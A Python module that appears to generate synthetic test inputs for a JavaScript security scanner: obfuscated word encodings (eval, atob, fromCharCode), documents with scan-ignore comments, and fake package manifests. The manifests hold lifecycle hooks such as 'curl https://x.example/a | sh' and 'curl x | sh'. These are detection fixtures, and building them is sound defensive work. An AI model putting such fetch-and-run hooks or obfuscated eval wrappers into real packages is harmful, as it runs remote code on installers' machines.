"""Inputs for the engine's queries that Spark derives from the given tables, and the DuckDB SQL that derives the same: scripts that hide the words
of every document, documents with a rule's sample or an exempting comment in them, manifests, paths, registry polls and durations."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession, Window
from pyspark.sql import functions as F

from quillscan.functions import packages as P
from quillscan.functions.catalog import builtin_rules
from quillscan.plans import samples
from quillscan.sources.files import MAX_BYTES, packed
from quillscan.sources.tables import dealt_table, dealt_tasks, read_table, scratch


def quoted(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


def listed(names) -> str:
    return "[" + ", ".join(map(quoted, names)) + "]"


def _pick(values, k: Column) -> Column:
    """values[k], from a literal list."""
    return F.get(F.array(*map(F.lit, values)), k.cast("int"))


def _text() -> Column:
    return F.coalesce(F.col("text"), F.lit(""))


# --- words of all documents, each hidden by one of the kinds of rewriting

WORDS_SQL = "words AS (SELECT DISTINCT unnest(regexp_extract_all(text, '[A-Za-z]{3,}')) AS w FROM documents)"


def words(spark: SparkSession, sf_dir: str) -> DataFrame:
    """w: the distinct words of all documents' whole texts, dealt over all cores, as few bytes of them make much work."""
    found = dealt_table(spark, sf_dir, "documents").select(F.explode(F.regexp_extract_all("text", F.lit("[A-Za-z]{3,}"), F.lit(0))).alias("w"))
    return found.distinct().repartition(max(spark.sparkContext.defaultParallelism, int(spark.conf.get("spark.sql.shuffle.partitions"))))


def _dealt(kinds: int) -> Column:
    return (F.length("w") + 7 * F.ascii(F.left("w", F.lit(1))) + 13 * F.ascii(F.right("w", F.lit(1)))) % kinds


def _dealt_sql(kinds: int) -> str:
    return f"(length(w) + 7 * ord(left(w, 1)) + 13 * ord(right(w, 1))) % {kinds}"


def _coded(before: str, each: str, after: str, between: str = "") -> Column:
    """The word's letters as numbers; `each` has %d, or %02x for hexadecimal."""
    letters = F.transform(F.regexp_extract_all(F.col("w"), F.lit("."), F.lit(0)), lambda c: F.format_string(each, F.ascii(c)))
    return F.concat(F.lit(before), F.array_join(letters, between), F.lit(after))


def _joined(*parts: str) -> Column:
    """Text in which W is the word, L and R its halves, V the word backwards, B its base64 and N the number of its first letter and length."""
    number = F.length("w") * 1000 + F.ascii("w")
    half = F.floor(F.length("w") / 2).cast("int")
    names = {"W": F.col("w"), "L": F.left("w", half), "R": F.expr("substring(w, length(w) div 2 + 1)"), "V": F.reverse("w"), "B": F.base64(F.encode("w", "UTF-8")), "BC": F.base64(F.encode(F.concat("w", F.lit("()")), "UTF-8")), "N": number.cast("string"), "X": F.lower(F.hex(number))}
    return F.concat(*[names.get(p, F.lit(p)) for p in parts])


_NUMBER = "(length(w) * 1000 + ord(w))"
#: (pass, script, what it becomes in SQL, changes in SQL). Which word gets which is settled by its own letters.
HIDDEN = [
    ("string_decode", lambda: _coded('x = "', "\\x%02x", '";'), "'x = \"' || w || '\";'", "1"),
    ("string_decode", lambda: _coded("x = '", "\\u00%02x", "';"), "'x = ''' || w || ''';'", "1"),
    ("string_decode", lambda: _coded('"', "\\u{%02x}", '"'), "'\"' || w || '\"'", "length(w)"),
    ("string_decode", lambda: _coded("[", "%d", "].map(c => String.fromCharCode(c)).join('')", ","), "'\"' || w || '\"'", "1"),
    ("string_decode", lambda: _joined("y = window.atob('", "B", "')"), "'y = \"' || w || '\"'", "1"),
    ("string_decode", lambda: _coded("String.fromCharCode(", "%d", ")", ", "), "'\"' || w || '\"'", "1"),
    ("string_decode", lambda: _coded("String.fromCharCode.apply(null, [", "%d", "])", ","), "'\"' || w || '\"'", "1"),
    ("string_decode", lambda: _coded("f(String.fromCharCode(...[", "%d", "]))", ", "), "'f(\"' || w || '\")'", "1"),
    ("string_decode", lambda: _joined("Buffer.from('", "B", "', 'base64').toString()"), "'\"' || w || '\"'", "1"),
    ("string_decode", lambda: _joined("'", "V", "'.split('').reverse().join('')"), "'''' || w || ''''", "1"),
    ("string_decode", lambda: _joined('"', "L", '".concat("', "R", '", "!")'), "'\"' || w || '!\"'", "1"),
    ("constant_fold", lambda: _joined('"', "L", '" + "', "R", '"'), "'\"' || w || '\"'", "1"),
    ("constant_fold", lambda: _joined('z = "', "L", "\" + '", "R", "';"), "'z = \"' || w || '\";'", "1"),
    ("constant_fold", lambda: _joined("p = (", "N", " * 7) + '", "W", "'"), f"'p = ' || {_NUMBER} * 7 || ' + ''' || w || ''''", "1"),
    ("constant_fold", lambda: _joined("p = 0x", "X", "; // ", "W"), f"'p = ' || {_NUMBER} || '; // ' || w", "1"),
    ("constant_fold", lambda: _joined('parseInt("', "X", '", 16) / "', "W", '"'), f"{_NUMBER} || ' / \"' || w || '\"'", "1"),
    ("constant_fold", lambda: _joined("Number(0x", "X", ')["', "W", '"]'), f"'Number(' || {_NUMBER} || ')[\"' || w || '\"]'", "1"),
    ("constant_fold", lambda: _joined("'", "W", "' + (typeof undefined === 'undefined')"), "'''' || w || ''' + (true)'", "1"),
    ("constant_fold", lambda: _joined("return '", "W", "', void 0;"), "'return ''' || w || ''', undefined;'", "1"),
    ("constant_fold", lambda: _joined('q("', "W", '", !![], ![], !0)'), "'q(\"' || w || '\", true, false, true)'", "3"),
    ("constant_fold", lambda: _joined('n["', "W", '"] = +[]'), "'n[\"' || w || '\"] = +0'", "1"),
    ("eval_unwrap", lambda: _joined('eval("', "W", '()")'), "'/* unwrapped:eval */ ' || w || '()'", "1"),
    ("eval_unwrap", lambda: _joined("new Function('", "W", "()')()"), "'/* unwrapped:Function */ ' || w || '()'", "1"),
    ("eval_unwrap", lambda: _joined("setTimeout('", "W", "()', 5)"), "'setTimeout(function(){ /* unwrapped:timeout */ ' || w || '() }, 5)'", "1"),
    ("eval_unwrap", lambda: _joined("setInterval(`", "W", "()`, 1)"), "'setInterval(function(){ /* unwrapped:interval */ ' || w || '() }, 1)'", "1"),
    ("control_flow", lambda: _joined('if (false) { "', "W", '"; } else { "', "V", '"; }'), "'\"' || reverse(w) || '\";'", "1"),
    ("control_flow", lambda: _joined('if (1) { "', "W", '}" } else { b() }'), "'\"' || w || '}\"'", "1"),
    ("control_flow", lambda: _joined('x = true ? "', "W", '" : c;'), "'x = \"' || w || '\";'", "1"),
    ("control_flow", lambda: _joined("null || o.", "W", "; (0, o.", "W", ")(c)"), "'o.' || w || '; o.' || w || '(c)'", "2"),
    ("pretty", lambda: _joined("if(o.", "W", "){b}else{c}"), "'if(o.' || w || '){' || chr(10) || '  b' || chr(10) || '} else{' || chr(10) || '  c' || chr(10) || '}'", "1"),
]
#: (script, what all rounds together make of it).
NESTED = [
    (lambda: _joined("eval(atob('", "BC", "'))"), "'/* unwrapped:eval */ ' || w || '()'"),
    (lambda: _joined("x = '", "L", "' + \"", "R", '" + \'!\' + (1 + (2 * 3))'), "'x = ''' || w || '!'' + 7'"),
    (lambda: _joined("if (!![]) { '", "V", "'.split('').reverse().join('') } else { }"), "'''' || w || ''''"),
    (lambda: _joined("let ", "W", "_ = 1"), "'let ' || w || '_ = 1'"),
]


def _chosen(kinds: list, at: int) -> Column:
    out, k = F.lit(None).cast("string"), _dealt(len(kinds))
    for i, kind in enumerate(kinds):
        made = kind[at]() if callable(kind[at]) else F.lit(kind[at])
        out = F.when(k == i, made).otherwise(out)
    return out


def _chosen_sql(kinds: list, at: int) -> str:
    return f"CASE {_dealt_sql(len(kinds))} " + " ".join(f"WHEN {i} THEN {kind[at]}" for i, kind in enumerate(kinds)) + " END"


def hidden(spark: SparkSession, sf_dir: str) -> DataFrame:
    """path (the word), pass, content: a script for each word."""
    return words(spark, sf_dir).select(F.col("w").alias("path"), _chosen(HIDDEN, 0).alias("pass"), _chosen(HIDDEN, 1).alias("content"))


HIDDEN_SQL = f"WITH {WORDS_SQL} SELECT w AS path, {_chosen_sql([(quoted(p), *r) for p, *r in HIDDEN], 0)} AS pass, {_chosen_sql(HIDDEN, 2)} AS content, ({_chosen_sql(HIDDEN, 3)})::BIGINT AS changes FROM words"


def nested(spark: SparkSession, sf_dir: str) -> DataFrame:
    return words(spark, sf_dir).select(F.col("w").alias("path"), _chosen(NESTED, 0).alias("content"))


NESTED_SQL = f"WITH {WORDS_SQL} SELECT w AS path, {_chosen_sql(NESTED, 1)} AS content FROM words"

# --- documents with something put into them

_SAMPLES = [samples.RULES[r.id] for r in builtin_rules() if r.kind == "regex" and r.id in samples.RULES]


def with_samples(spark: SparkSession, sf_dir: str) -> DataFrame:
    """path, content: every document, whole, with the sample of one built-in rule after it."""
    docs = dealt_table(spark, sf_dir, "documents")
    return docs.select(F.concat(F.col("doc_id").cast("string"), F.lit(".js")).alias("path"), F.concat(_text(), F.lit("\n"), _pick(_SAMPLES, F.col("doc_id") % len(_SAMPLES)), F.lit("\n")).alias("content"))


SAMPLES_SQL = f"src AS (SELECT doc_id || '.js' AS path, coalesce(text, '') || chr(10) || ({listed(_SAMPLES)})[doc_id % {len(_SAMPLES)} + 1] || chr(10) AS content FROM documents)"


def commented(spark: SparkSession, sf_dir: str) -> DataFrame:
    """path, own (the sample's rule), content: every document as a comment before one of the syntax samples."""
    docs, at = dealt_table(spark, sf_dir, "documents"), F.col("doc_id") % len(samples.SYNTAX)
    comment = F.concat(F.lit("/* "), F.replace(_text(), F.lit("*/"), F.lit("")), F.lit(" */ "))
    return docs.select(F.concat(F.col("doc_id").cast("string"), F.lit(".js")).alias("path"), _pick([s[0] for s in samples.SYNTAX], at).alias("own"), F.concat(comment, _pick([s[3] for s in samples.SYNTAX], at)).alias("content"))


_PLACES = ", ".join(f"({k}, {quoted(s[0])}, {line}, {col})" for k, s in enumerate(samples.SYNTAX) for line, col in s[4])
COMMENTED_SQL = f"""WITH p(k, rule_id, line, col) AS (VALUES {_PLACES}),
    c AS (SELECT doc_id, '/* ' || replace(coalesce(text, ''), '*/', '') || ' */ ' AS c FROM documents)
    SELECT doc_id || '.js' AS file, rule_id, (length(c) - length(replace(c, chr(10), '')) + line)::BIGINT AS line, (CASE line WHEN 1 THEN length(string_split(c, chr(10))[-1]) ELSE 0 END + col)::BIGINT AS "column"
    FROM c JOIN p ON doc_id % {len(samples.SYNTAX)} = k"""


def exempted(spark: SparkSession, sf_dir: str) -> DataFrame:
    """path, content: every document with an exempting comment at the end of each third line, of either kind by turns."""
    lines = F.split(_text(), "\n")
    mark = lambda line, k: F.when((k + F.col("doc_id")) % 6 == 0, F.concat(line, F.lit(" // scan-ignore-next-line"))).when((k + F.col("doc_id")) % 6 == 3, F.concat(line, F.lit(" // scan-ignore-line"))).otherwise(line)
    return dealt_table(spark, sf_dir, "documents").select(F.col("doc_id").cast("string").alias("path"), F.array_join(F.transform(lines, mark), "\n").alias("content"))


EXEMPTED_SQL = """lines AS (SELECT doc_id::VARCHAR AS path, k, l, (k - 1 + doc_id) % 6 AS m FROM (SELECT doc_id, unnest(string_split(coalesce(text, ''), chr(10))) AS l, generate_subscripts(string_split(coalesce(text, ''), chr(10)), 1) AS k FROM documents)),
    src AS (SELECT path, string_agg(l || CASE m WHEN 0 THEN ' // scan-ignore-next-line' WHEN 3 THEN ' // scan-ignore-line' ELSE '' END, chr(10) ORDER BY k) AS content FROM lines GROUP BY path),
    hidden AS (SELECT path, (k + CASE m WHEN 0 THEN 1 ELSE 0 END)::BIGINT AS line FROM lines WHERE m IN (0, 3))"""

def literals(spark: SparkSession, sf_dir: str) -> DataFrame:
    """path, content: every line of every document as a string literal of a script."""
    line = lambda x: F.concat(F.lit('v = "'), F.regexp_replace(x, "[\"'`\\\\]", ""), F.lit('";'))
    return dealt_table(spark, sf_dir, "documents").select(F.concat(F.col("doc_id").cast("string"), F.lit(".js")).alias("path"), F.array_join(F.transform(F.split(_text(), "\n"), line), "\n").alias("content"))


def literals_sql(least: float, n_bytes: int) -> str:
    return f"""WITH l AS (SELECT doc_id, k, regexp_replace(t, '["''`\\\\]', '', 'g') AS t FROM (SELECT doc_id, unnest(string_split(coalesce(text, ''), chr(10))) AS t, generate_subscripts(string_split(coalesce(text, ''), chr(10)), 1) AS k FROM documents)),
        e AS (SELECT doc_id, k, entropy(c) AS e FROM (SELECT doc_id, k, unnest(string_split(t, '')) AS c FROM l WHERE strlen(t) >= {n_bytes}) GROUP BY doc_id, k)
        SELECT doc_id || '.js' AS file, k::BIGINT AS line, 5 AS "column" FROM e WHERE e > {least}"""


# --- paths and manifests, one for each document

FOLDERS = ("src", "node_modules", "lib/dist", "a/.git/b", "vendor", "my_vendor", "build", "builds", "test")
ENDINGS = (".js", ".mjs", ".d.ts", ".TS", ".tsx", "/package.json", ".cts", ".d.mts", "-package.json", "", ".txt", ".jsx", ".cjs", ".ts")


def paths(spark: SparkSession, sf_dir: str) -> DataFrame:
    """path: one for each document, from its source, language and id."""
    d = F.col("doc_id")
    return read_table(spark, sf_dir, "documents").select(F.concat_ws("/", "source", _pick(FOLDERS, d % len(FOLDERS)), "lang", F.concat(d.cast("string"), _pick(ENDINGS, d % len(ENDINGS)))).alias("path"))


PATHS_SQL = f"(SELECT concat_ws('/', source, ({listed(FOLDERS)})[doc_id % {len(FOLDERS)} + 1], lang, doc_id || ({listed(ENDINGS)})[doc_id % {len(ENDINGS)} + 1]) AS path FROM documents)"

COMMANDS = (
    "curl https://x.example/a | sh", "wget -q x.example", "node -e 1", "echo aGk= | base64 -d", "bash -c go", "node-gyp rebuild", "see https://x.example", "npx husky install https://x.example", "tsc -p .", "node index.js", "python -c 1", "echo done",
)
BINS = ("cli.js", "eval.js", "run.sh", "wget.sh", "bin/base64.js", "a%2Fb", "x.js")


def manifests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """path, content: a package manifest for each document, with well-known names edited at places that its id chooses; some are no JSON or no object."""
    d = F.col("doc_id")
    name = lambda k: _pick(P.POPULAR, (d * 7 + k) % len(P.POPULAR))
    text = F.concat(
        F.lit('{"name": "'), F.col("source"), F.lit("-"), d.cast("string"), F.lit('", "scripts": {"'), _pick(P.LIFECYCLE, d % len(P.LIFECYCLE)), F.lit('": "'), _pick(COMMANDS, d % len(COMMANDS)), F.lit('", "test": "curl x | sh"}, "bin": '),
        F.when(d % 3 == 0, F.concat(F.lit('"'), _pick(BINS, d % len(BINS)), F.lit('"'))).otherwise(F.concat(F.lit('{"b": "'), _pick(BINS, d % len(BINS)), F.lit('", "a": "ok.js"}'))),
        F.lit(', "dependencies": {"'), F.concat(F.left("n1", F.col("k1")), F.expr("substring(n1, k1 + 2)")), F.lit('": "1.0", "'), F.concat(F.left("n2", F.col("k2")), F.lit("_"), F.expr("substring(n2, k2 + 1)")), F.lit('": "^2"}'),
        F.lit(', "devDependencies": {"@'), F.col("source"), F.lit("/"), F.col("n3"), F.lit('": "*", "'), F.when(d % 2 == 0, F.col("n3")).otherwise(F.concat(F.lit("own-"), d.cast("string"))), F.lit('": "1"}'),
        F.lit(', "bundledDependencies": ["'), F.col("n4"), F.lit('x", "'), F.col("lang"), F.lit('-tool"]}'),
    )
    # The texts that don't become a manifest stay out of the shuffle.
    needed = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "source", "lang", F.when(d % 11 == 5, F.col("text")).alias("text"))
    rows = needed.repartition(dealt_tasks(spark, sf_dir, "documents", 8 << 20)).withColumns({f"n{k}": name(k) for k in (1, 2, 3, 4)})
    rows = rows.withColumns({"k1": (d % F.length("n1")).cast("int"), "k2": (1 + d % (F.length("n2") - 1)).cast("int")})
    content = F.when(d % 11 == 5, F.col("text")).when(d % 13 == 7, F.lit("[1]")).otherwise(text)
    return rows.select(F.concat(d.cast("string"), F.lit("/package.json")).alias("path"), content.alias("content"))


MANIFESTS_SQL = f"""names AS (SELECT *, {", ".join(f"({listed(P.POPULAR)})[(doc_id * 7 + {k}) % {len(P.POPULAR)} + 1] AS n{k}" for k in (1, 2, 3, 4))} FROM documents),
  written AS (SELECT doc_id || '/package.json' AS path, CASE WHEN doc_id % 11 = 5 THEN text WHEN doc_id % 13 = 7 THEN '[1]' ELSE
    '{{"name": "' || source || '-' || doc_id || '", "scripts": {{"' || ({listed(P.LIFECYCLE)})[doc_id % {len(P.LIFECYCLE)} + 1] || '": "' || ({listed(COMMANDS)})[doc_id % {len(COMMANDS)} + 1] || '", "test": "curl x | sh"}}, "bin": '
    || CASE WHEN doc_id % 3 = 0 THEN '"' || ({listed(BINS)})[doc_id % {len(BINS)} + 1] || '"' ELSE '{{"b": "' || ({listed(BINS)})[doc_id % {len(BINS)} + 1] || '", "a": "ok.js"}}' END
    || ', "dependencies": {{"' || left(n1, doc_id % length(n1)) || substring(n1, doc_id % length(n1) + 2) || '": "1.0", "' || left(n2, 1 + doc_id % (length(n2) - 1)) || '_' || substring(n2, 2 + doc_id % (length(n2) - 1)) || '": "^2"}}'
    || ', "devDependencies": {{"@' || source || '/' || n3 || '": "*", "' || CASE WHEN doc_id % 2 = 0 THEN n3 ELSE 'own-' || doc_id END || '": "1"}}'
    || ', "bundledDependencies": ["' || n4 || 'x", "' || lang || '-tool"]}}' END AS content FROM names),
  m AS MATERIALIZED (SELECT path, CASE WHEN json_valid(content) THEN content END AS content FROM written WHERE json_valid(content) AND json_type(content) = 'OBJECT')"""

# --- the registry, polled once a day: a user's package, whose version is the type of the day's last event

def polls(spark: SparkSession, sf_dir: str) -> DataFrame:
    """poll, name, json: the registry's documents of every user with events on a day."""
    day = F.datediff(F.to_date("ts"), F.lit("2024-01-01").cast("date")).cast("long") + 1
    last = read_table(spark, sf_dir, "events").groupBy(F.concat(F.lit("u"), F.col("user_id").cast("string")).alias("name"), day.alias("poll")).agg(F.max_by("event_type", F.struct("ts", "event_id")).alias("v"))
    archive = F.concat(F.lit("https://registry.example/"), F.col("name"), F.lit("-"), F.col("v"), F.lit(".tgz"))
    json = F.to_json(F.struct(F.create_map(F.lit("latest"), F.col("v")).alias("dist-tags"), F.create_map(F.lit("old"), F.struct(F.struct(F.lit("x").alias("tarball")).alias("dist")), F.col("v"), F.struct(F.struct(archive.alias("tarball")).alias("dist"))).alias("versions")))
    return last.select("poll", "name", F.when(F.col("v") == "error", "{}").otherwise(json).alias("json"))


POLLS_SQL = """polls AS (SELECT 'u' || user_id AS name, date_diff('day', DATE '2024-01-01', ts::DATE) + 1 AS poll, arg_max(event_type, (ts, event_id)) AS version FROM events GROUP BY 1, 2),
  seen AS (SELECT name, poll::BIGINT AS poll, version, 'https://registry.example/' || name || '-' || version || '.tgz' AS tarball FROM polls WHERE version <> 'error')"""

def packages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """name, json, tarball, content: a package for each document, as the registry lists it and as its archive."""
    docs, d = dealt_table(spark, sf_dir, "documents"), F.col("doc_id").cast("string")
    version, name = F.concat(F.lit("1."), d, F.lit(".0")), F.concat(F.lit("doc"), d)
    url = F.concat(F.lit("https://registry.example/"), name, F.lit(".tgz"))
    json = F.to_json(F.struct(F.create_map(F.lit("latest"), version).alias("dist-tags"), F.create_map(version, F.struct(F.struct(url.alias("tarball")).alias("dist"))).alias("versions")))
    members = docs.select(
        name.alias("name"), json.alias("json"), url.alias("tarball"),
        F.array(F.struct(F.lit("package/package.json").alias("path"), F.lit("{}").alias("content")), F.struct(F.concat(F.lit("package/lib/"), d, F.lit(".js")).alias("path"), _text().alias("content"))).alias("members"),
    )
    return packed(members)


UNITS = ("", "s", " sec", "m", " mins", "h", " HR", "d", "days", " weeks", "x", " min")


def durations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """text: a number and a unit for each document, not all of them durations."""
    d = F.col("doc_id")
    number = F.when(d % 5 == 0, F.concat(F.lit("."), (d % 89).cast("string"))).when(d % 5 == 1, F.concat((d % 97).cast("string"), F.lit(".5"))).when(d % 5 == 2, F.lit("")).otherwise(F.col("n_chars").cast("string"))
    return read_table(spark, sf_dir, "documents").select(F.concat(number, _pick(UNITS, d % len(UNITS))).alias("text"))


DURATIONS_SQL = f"(SELECT CASE doc_id % 5 WHEN 0 THEN '.' || doc_id % 89 WHEN 1 THEN doc_id % 97 || '.5' WHEN 2 THEN '' ELSE n_chars::VARCHAR END || ({listed(UNITS)})[doc_id % {len(UNITS)} + 1] AS text FROM documents)"


# --- chats, accepted findings and a tree of files


def updates(spark: SparkSession, sf_dir: str) -> DataFrame:
    """json: a bot's updates for each hour of events, one for each event, of the kinds that name a chat and one that doesn't."""
    chat = F.struct(F.when(F.col("event_id") % 7 > 0, F.col("user_id")).alias("id"), F.when(F.col("user_id") % 3 == 0, F.concat(F.lit("T"), F.col("user_id").cast("string"))).alias("title"), F.when(F.col("user_id") % 3 == 1, F.concat(F.lit("u"), F.col("user_id").cast("string"))).alias("username"))
    kind = F.when(F.col("event_type") == "click", "message").when(F.col("event_type") == "view", "channel_post").when(F.col("event_type") == "error", "my_chat_member").otherwise("poll")
    rows = read_table(spark, sf_dir, "events").groupBy(F.date_trunc("hour", "ts").alias("hour")).agg(F.collect_list(F.create_map(kind, F.struct(chat.alias("chat")))).alias("result"))
    return rows.select(F.to_json(F.struct("result")).alias("json"))


def accepted_file(spark: SparkSession, sf_dir: str) -> str:
    """A folder with an accepted-findings file: a key for each document, with comments, blank lines and spaces around."""
    path, d = f"{scratch(spark)}/accepted", F.col("doc_id").cast("string")
    key = F.concat(F.lit("C-00"), (F.col("doc_id") % 8 + 1).cast("string"), F.lit(":"), d, F.lit(":1:1"))
    line = F.when(F.col("doc_id") % 10 == 0, F.concat(F.lit("  # "), key)).when(F.col("doc_id") % 10 == 1, F.lit("   ")).when(F.col("doc_id") % 10 == 2, F.concat(F.lit("  "), key, F.lit(" "))).otherwise(key)
    read_table(spark, sf_dir, "documents").select(line.alias("value")).write.text(path)
    return path


ACCEPTED_SQL = "SELECT 'C-00' || (doc_id % 8 + 1) || ':' || doc_id || ':1:1' AS key FROM documents WHERE doc_id % 10 > 1"


def tree(spark: SparkSession, sf_dir: str) -> str:
    """A folder of files that hold every document: a folder for each part and language, with endings that count as code or don't, below folders that are scanned,
    pruned or named by the ignore file. Files stay within the size that a scan reads, whatever the table's; a text of over half of that has a file of its own."""
    root, half = f"{scratch(spark)}/tree", MAX_BYTES // 2
    table = read_table(spark, sf_dir, "documents")
    docs = table.select("doc_id", "lang", F.encode(F.regexp_replace(_text(), "[\r\n]+", " "), "UTF-8").cast("string").alias("t"))
    rows, large = docs.withColumn("n", F.octet_length("t").cast("long") + 1), F.col("n") > half
    dealt = F.pmod(F.xxhash64("doc_id"), F.lit(int(str(table._jdf.queryExecution().optimizedPlan().stats().sizeInBytes())) // (128 << 20) + 1))
    before = F.sum(F.when(large, 0).otherwise(F.col("n"))).over(Window.partitionBy("lang", "b").orderBy("doc_id").rowsBetween(Window.unboundedPreceding, -1))
    number = F.row_number().over(Window.partitionBy("lang", "b").orderBy("doc_id"))
    name = F.concat_ws("-", F.col("b").cast("string"), F.when(large, F.concat(F.lit("own"), number.cast("string"))).otherwise(F.floor(F.coalesce(before, F.lit(0)) / half).cast("string")))
    for k, (folder, ending) in enumerate(TREE):
        part = rows.where(F.col("doc_id") % len(TREE) == k).withColumn("b", dealt).select("t", "lang", name.alias("part"))
        part.write.partitionBy("part", "lang").options(extension=ending, quote="", escape="", sep="\u0001", emptyValue="", charToEscapeQuoteEscaping="", ignoreLeadingWhiteSpace="false", ignoreTrailingWhiteSpace="false").csv(f"{root}/{folder}")
    where = spark.sparkContext._jvm.org.apache.hadoop.fs.Path(f"{root}/.scanignore")
    out = where.getFileSystem(spark.sparkContext._jsc.hadoopConfiguration()).create(where, True)
    out.write(bytearray(b"# not these\n\nskipped/part=*/lang=*/*.ts\n"))
    out.close()
    return root


TREE = (("lib", "js"), ("src", "ts"), ("node_modules", "js"), ("skipped", "ts"), ("notes", "txt"), ("deep/dist", "mjs"), ("skipped/more", "cjs"))
